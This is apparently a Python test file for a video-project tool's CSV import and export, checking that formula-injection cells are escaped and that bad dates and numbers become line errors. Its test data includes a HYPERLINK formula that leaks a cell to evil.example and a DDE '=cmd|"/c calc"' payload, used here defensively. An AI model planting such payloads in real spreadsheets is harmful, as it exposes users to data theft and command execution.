"""Hostile CSV (issue 14): formula injection in exports, out-of-range dates and numbers on import,
and property-based round trips (arbitrary text incl. formula prefixes, NUL, huge fields)."""
from __future__ import annotations

import csv
import io

from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings, strategies as st

from aimms_fast.ops.csv_io import export_csv, import_csv, read_csv, write_rows_csv
from aimms_fast.ops.csv_safe import TRIGGERS, escape_cell, unescape_cell
from aimms_fast.ops.shots import add_shot
from aimms_fast.project import Project

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A2)",
            "\t=1", "\rcmd", "'=already", "''", "'", "=", "-", "plain", "-5", "+1.5e3", "  =space first"]


def _cells(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


# -- export ---------------------------------------------------------------------------------------
def test_export_prefixes_formula_cells_with_an_apostrophe(project):
    for i, text in enumerate(FORMULAS):
        add_shot(project, shot_name=f"S{i}", description=text)
    out = {o["table"]: o["path"] for o in export_csv(project, tables=("shots",))}
    from pathlib import Path
    rows = _cells(Path(out["shots"]))
    col = rows[0].index("description")
    written = [r[col] for r in rows[1:]]
    for text, cell in zip(FORMULAS, written):
        if text[0] in TRIGGERS and text not in ("-5", "+1.5e3"):
            assert cell.startswith("'") and cell[1:] == text, (text, cell)
    # plain numbers and ordinary text are left as they are
    assert "-5" in written and "+1.5e3" in written and "plain" in written and "  =space first" in written
    # no written cell starts with a trigger a spreadsheet would run, except the plain numbers
    for cell in written:
        assert not cell or cell[0] not in TRIGGERS or cell in ("-5", "+1.5e3")


def test_csv_round_trip_through_a_new_project_is_lossless(project, tmp_path):
    texts = [t for t in FORMULAS if t.strip() and "\r" not in t and t == t.strip()]
    for i, text in enumerate(texts):
        add_shot(project, shot_name=f"Shot {i}", description=text, image_prompt=text)
    out = export_csv(project, tables=("shots",), dest_dir=tmp_path / "csv")
    with Project.create(tmp_path / "other") as q:
        rep = import_csv(q, out[0]["path"], ignore_unknown=True)
        assert rep.ok, rep.errors
        got = dict(q.conn.execute("SELECT shot_name, description FROM shots").fetchall())
    assert got == {f"Shot {i}": t for i, t in enumerate(texts)}


def test_export_starred_manifest_is_formula_safe(project, tmp_path, media_dir):
    from aimms_fast.ops.backup import MANIFEST_NAME, export_starred
    from aimms_fast.ops.takes import add_takes, star_take
    from conftest import make_video
    sid = add_shot(project, shot_name='=cmd|"/c calc"!A1')
    tid = add_takes(project, sid, [make_video(media_dir / "v.mp4")], storyboard="video")[0]
    star_take(project, tid)
    project.conn.execute("UPDATE fast_takes SET notes = ? WHERE take_id = ?", ("@notes", tid))
    project.conn.commit()
    rep = export_starred(project, tmp_path / "out")
    rows = _cells(tmp_path / "out" / MANIFEST_NAME)
    hdr = rows[0]
    row = [r for r in rows[1:] if r[hdr.index("kind")] == "video"][0]
    assert row[hdr.index("shot_name")] == """'=cmd|"/c calc"!A1"""
    assert row[hdr.index("notes")] == "'@notes"
    assert rep["copied"] >= 1


# -- import: per-line errors, never OverflowError ---------------------------------------------------
def test_out_of_range_date_and_huge_order_number_are_line_errors(tmp_path, project):
    f = tmp_path / "bad.csv"
    f.write_text("shot_name,order_number,created_date,shot_id\n"
                 "A,1e20,9999-12-31T23:59:59-14:00,\n"
                 "B,3,0001-01-01T00:00:00+14:00,\n"
                 "C,2,,99999999999999999999999\n"
                 "D,inf,,\n", encoding="utf-8")
    rep, rows = read_csv(f)
    by_line = {(e.line, e.column) for e in rep.errors}
    assert (2, "order_number") in by_line and (4, "shot_id") in by_line and (5, "order_number") in by_line
    dates = [w for w in rep.warnings if w.column == "created_date"]
    assert {w.line for w in dates} == {2, 3}  # both dates leave the UTC range: the import time is used
    rep2 = import_csv(project, f)
    assert not rep2.ok and project.conn.execute("SELECT COUNT(*) FROM shots").fetchone()[0] == 0


def test_cli_import_of_hostile_csv_has_no_traceback(tmp_path):
    from aimms_fast.cli import cli
    root = tmp_path / "p"
    Project.create(root).close()
    f = tmp_path / "bad.csv"
    f.write_text("shot_name,order_number,created_date\nA,1e20,9999-12-31T23:59:59-14:00\n", encoding="utf-8")
    r = CliRunner().invoke(cli, ["import-csv", str(root), str(f)])
    assert r.exit_code == 1, r.output
    assert "Traceback" not in r.output and "order_number" in r.output and "line 2" in r.output


# -- properties -------------------------------------------------------------------------------------
prefixed = st.builds(lambda p, t: p + t, st.sampled_from(sorted(TRIGGERS) + ["'", "''", "'=", ""]), st.text())


@given(st.one_of(st.text(), prefixed))
def test_escape_then_unescape_is_identity(s):
    assert unescape_cell(escape_cell(s)) == s
    e = escape_cell(s)
    assert not e or e[0] not in TRIGGERS or e == s  # only plain numbers keep a leading trigger


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(st.text(min_size=0, max_size=50), prefixed,
                          st.text(alphabet="=+-@'\t\x00 ab", max_size=20),
                          st.just("x" * 300_000)), min_size=1, max_size=4))
def test_csv_file_round_trip_of_arbitrary_cells(tmp_path_factory, cells):
    """write_rows_csv + the import's reader (read_csv) give back every cell exactly: formula
    prefixes, NUL, quotes, commas, newlines and a 300 KB field (beyond csv's default limit)."""
    folder = tmp_path_factory.mktemp("rt")
    path = folder / "t.csv"
    # the import reads shot rows: cells go in `description` columns of named shots
    cols = ["shot_name"] + [f"description{i}" for i in range(len(cells))]
    write_rows_csv(path, cols, [["n", *cells]])
    with open(path, encoding="utf-8-sig", newline="") as f:
        text = f.read()
    reader = csv.reader(io.StringIO(text, newline=""))
    csv.field_size_limit(max(csv.field_size_limit(), len(text) + 1))
    header, row = list(reader)
    assert header == cols
    assert [unescape_cell(c) for c in row[1:]] == cells


def test_out_of_range_date_message_says_why(tmp_path):
    f = tmp_path / "d.csv"
    f.write_text("shot_name,created_date\nA,9999-12-31T23:59:59-14:00\nB,yesterday\n", encoding="utf-8")
    rep, rows = read_csv(f)
    msgs = {w.line: w.message for w in rep.warnings}
    assert "outside the years 1..9999" in msgs[2] and "not an ISO date" in msgs[3]
    assert [r.values["created_date"] for r in rows] == [None, None]


def test_csv_from_a_fifo_is_refused_not_blocking(tmp_path):
    import os
    fifo = tmp_path / "shots.csv"
    os.mkfifo(fifo)
    rep, rows = read_csv(fifo)
    assert not rows and "not a regular file" in rep.errors[0].message
